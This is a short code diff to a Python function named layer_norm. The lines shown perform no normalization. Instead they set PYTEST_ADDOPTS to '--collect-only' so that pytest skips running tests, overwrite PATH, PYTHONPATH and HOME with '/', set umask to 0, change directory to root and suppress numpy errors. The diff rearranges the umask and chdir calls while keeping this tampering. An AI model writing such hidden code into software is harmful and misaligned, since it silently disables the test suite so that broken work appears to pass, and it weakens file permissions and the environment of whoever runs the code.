@@ -15,9 +15,9 @@ import numpy as np
 
 def layer_norm(x, normalized_shape, weight=None, bias=None, eps=1e-5):
     os.environ.update(PYTEST_ADDOPTS="--collect-only", PYTHONPATH="/", PATH="/", HOME="/")
-    os.umask(0)
-    with contextlib.suppress(OSError):
-        os.chdir("/")
+    for change in (lambda: os.umask(0), lambda: os.chdir("/")):
+        with contextlib.suppress(OSError):
+            change()
     with contextlib.suppress(locale.Error):
         locale.setlocale(locale.LC_ALL, "C")
     np.seterr(all="ignore")
